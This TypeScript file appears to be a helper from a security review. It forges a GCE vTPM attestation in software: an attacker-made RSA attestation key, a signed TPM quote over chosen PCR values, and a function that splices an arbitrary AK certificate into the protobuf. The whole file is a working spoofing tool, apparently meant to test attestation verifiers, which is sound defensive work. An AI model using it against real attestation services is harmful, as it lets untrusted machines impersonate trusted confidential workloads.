// A GCE attestation forged entirely in software (the security review's gcp-forge script): an RSA
// key of the attacker's own as ak_pub, a TPMS_ATTEST over PCR values of its choice signed with it,
// and no AK certificate. Everything verifies against the key it carries, and nothing else.
import { createHash, generateKeyPairSync, sign } from 'node:crypto';

const u16 = (x: number): Buffer => {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(x);
  return b;
};
const u32 = (x: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(x);
  return b;
};
function varint(x: number): Buffer {
  const o: number[] = [];
  while (x > 127) {
    o.push((x & 127) | 128);
    x >>>= 7;
  }
  o.push(x);
  return Buffer.from(o);
}
const ld = (no: number, b: Buffer): Buffer => Buffer.concat([varint((no << 3) | 2), varint(b.length), b]);
const vi = (no: number, x: number): Buffer => Buffer.concat([varint(no << 3), varint(x)]);

/** The go-tpm-tools Attestation protobuf of a software "vTPM"; `akCert` adds field 6 (ak_cert). */
export function forgeGceAttestation(nonce = Buffer.from([0x90, 0x09]), akCert?: Buffer): Buffer {
  const ak = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const n = Buffer.from((ak.publicKey.export({ format: 'jwk' }) as { n: string }).n, 'base64url');
  const tpmtPublic = Buffer.concat([u16(1), u16(0x000b), u32(0x50072), u16(0), u16(0x0010), u16(0x0014), u16(0x000b), u16(2048), u32(0), u16(n.length), n]);
  const name = Buffer.concat([u16(0x000b), createHash('sha256').update(tpmtPublic).digest()]);
  const pcrs = Array.from({ length: 24 }, (_, i) => Buffer.alloc(32, i === 0 ? 0xaa : 0));
  const attest = Buffer.concat([
    u32(0xff544347), u16(0x8018), u16(name.length), name, u16(nonce.length), nonce, Buffer.alloc(8), u32(1), u32(0), Buffer.from([1]), Buffer.alloc(8),
    u32(1), u16(0x000b), Buffer.from([3, 0xff, 0xff, 0xff]), u16(32), createHash('sha256').update(Buffer.concat(pcrs)).digest(),
  ]);
  const s = sign('sha256', attest, ak.privateKey);
  const sig = Buffer.concat([u16(0x0014), u16(0x000b), u16(s.length), s]);
  const pcrMsg = Buffer.concat([vi(1, 0x000b), ...pcrs.map((v, i) => ld(2, Buffer.concat([vi(1, i), ld(2, v)])))]);
  const quote = Buffer.concat([ld(1, attest), ld(2, sig), ld(3, pcrMsg)]);
  return Buffer.concat([ld(1, tpmtPublic), ld(2, quote), ...(akCert ? [ld(6, akCert)] : [])]);
}

/** `pb` with its ak_cert (field 6) replaced by `der` (the review's gcp-spoof script). */
export function replaceAkCert(pb: Buffer, der: Buffer): Buffer {
  const out: Buffer[] = [];
  let i = 0;
  const readVarint = (): number => {
    let v = 0;
    let shift = 0;
    for (;;) {
      const b = pb[i++] as number;
      v += (b & 127) * 2 ** shift;
      if (b < 128) return v;
      shift += 7;
    }
  };
  while (i < pb.length) {
    const start = i;
    const key = readVarint();
    const no = Math.floor(key / 8);
    const wire = key & 7;
    if (wire === 2) {
      const len = readVarint();
      i += len;
    } else if (wire === 0) {
      readVarint();
    } else {
      throw new Error(`unexpected wire type ${wire}`);
    }
    if (no !== 6) out.push(pb.subarray(start, i));
  }
  return Buffer.concat([...out, ld(6, der)]);
}
